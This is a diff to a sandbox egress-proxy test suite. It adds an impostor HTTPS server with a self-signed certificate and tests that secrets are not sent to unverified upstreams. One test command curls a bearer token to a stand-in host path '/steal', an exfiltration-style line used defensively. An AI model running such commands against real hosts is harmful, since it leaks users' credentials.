@@ -1,7 +1,10 @@
-import { spawnSync } from "node:child_process";
+import { execFileSync, spawnSync } from "node:child_process";
 import { randomBytes, X509Certificate } from "node:crypto";
 import { createReadStream, existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from "node:fs";
 import { readdir } from "node:fs/promises";
+import type { Server } from "node:http";
+import { createServer as createHttpsServer } from "node:https";
+import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
@@ -44,6 +47,10 @@ const SECRETS = {
   GIT_TOKEN: { hosts: ["git.example.test"], value: GIT },
   PYPI_TOKEN: { hosts: ["pypi.example.test", "files.pythonhosted.test"], value: PYPI },
   QUOTED_KEY: { hosts: ["api.openai.com"], value: QUOTED },
+  /** Bound to a host whose server shows a self-signed certificate nobody trusts. */
+  IMPOSTOR_KEY: { hosts: ["api.impostor.test"], value: value(`imp-${rand(32)}`) },
+  /** Bound to a name the (trusted) upstream's certificate does not list. */
+  UNLISTED_KEY: { hosts: ["unlisted.example.test"], value: value(`unl-${rand(32)}`) },
 } satisfies NonNullable<SandboxOptions["secrets"]>;
 type SecretName = keyof typeof SECRETS;
 const SANDBOX_VALUES = Object.values(SECRETS).map((s) => s.value);
@@ -58,6 +65,9 @@ let daemon: TestDaemon;
 let daemonStdout = "";
 let hostDir: string;
 let sb: Sandbox;
+/** An HTTPS server with a self-signed certificate for api.impostor.test, and what reached it. */
+let impostor: Server;
+let impostorRequests = 0;
 /** Each secret's placeholder, as the sandbox sees it. */
 let P: Record<SecretName, string>;
 /** Refusals answered for a secret that the tests below saw (each one must be counted and logged). */
@@ -263,7 +273,14 @@ beforeAll(async () => {
   const testCa = join(hostDir, "test-ca.pem");
   writeFileSync(testCa, up.caPem);
   // no warm pool: every sandbox image below the state dir is one of this file's (and small), so all of them can be read through
-  daemon = await startDaemon({ config: { egress: { resolve: up.resolve, extraCaCerts: [testCa] } }, args: ["--warm-pool", "0"] });
+  execFileSync("openssl", ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=api.impostor.test", "-addext", "subjectAltName=DNS:api.impostor.test", "-keyout", join(hostDir, "impostor.key"), "-out", join(hostDir, "impostor.pem")], { stdio: "ignore" });
+  impostor = createHttpsServer({ key: readFileSync(join(hostDir, "impostor.key")), cert: readFileSync(join(hostDir, "impostor.pem")) }, (_req, res) => {
+    impostorRequests++;
+    res.end("impostor\n");
+  });
+  const impostorPort = await new Promise<number>((r) => impostor.listen(0, "127.0.0.1", () => r((impostor.address() as AddressInfo).port)));
+  const resolve = { ...up.resolve, "api.impostor.test:443": `127.0.0.1:${impostorPort}`, "unlisted.example.test:443": `127.0.0.1:${up.httpsPort}` };
+  daemon = await startDaemon({ config: { egress: { resolve, extraCaCerts: [testCa] } }, args: ["--warm-pool", "0"] });
   daemon.proc.stdout!.on("data", (d) => (daemonStdout += d));
   sb = await Sandbox.create({ ...daemon.opts, disk: "512MiB", allowNet: ALLOW, secrets: SECRETS });
   P = (await sb.env.toObject()) as Record<SecretName, string>;
@@ -282,6 +299,7 @@ afterAll(async () => {
   await sb?.kill().catch(() => {});
   await daemon?.[Symbol.asyncDispose]();
   await up?.close();
+  impostor?.close();
   if (hostDir) rmSync(hostDir, { recursive: true, force: true });
   if (missed.length) throw new Error(`secret values found after the tests: ${missed.join("; ")}`);
 });
@@ -780,6 +798,27 @@ print(json.dumps([r.status_code, r.headers.get("content-encoding"), r.json()]))
     up.canned.set("/canned/spellings", { body: Buffer.from(spellings.join("\n")), headers: {} });
     const back = ok(await run(`curl -sS --fail https://api.openai.com/canned/spellings`), "curl");
     expect(back).toBe([P.QUOTED_KEY, P.QUOTED_KEY, P.QUOTED_KEY].join("\n"));
+  });
+});
+
+describe("the upstream of a secret's host is verified before anything is sent", () => {
+  it("a certificate from an untrusted CA, or one that does not name the host: 502 naming the problem, and no request reaches it", async () => {
+    const out = ok(
+      await run(
+        [
+          `curl -sS -D - -o /dev/null -H "Authorization: Bearer $IMPOSTOR_KEY" https://api.impostor.test/steal`,
+          `curl -sS -D - -o /dev/null -H "Authorization: Bearer $UNLISTED_KEY" https://unlisted.example.test/echo/unlisted`,
+        ].join("; "),
+      ),
+      "curl",
+    );
+    const errors = out.split("\n").filter((l) => l.toLowerCase().startsWith("x-sbx-error:"));
+    expect(out.match(/^HTTP\/1\.1 502 /gm)).toHaveLength(2);
+    expect(errors[0]).toMatch(/cannot reach api\.impostor\.test:443: self[- ]signed certificate/i);
+    expect(errors[1]).toMatch(/cannot reach unlisted\.example\.test:443: .*Host: unlisted\.example\.test\. is not in the cert's altnames/);
+    expect(impostorRequests).toBe(0);
+    expect(seenAt("/echo/unlisted")).toEqual([]);
+    expectNoValue(out, "the 502s");
   });
 });
 
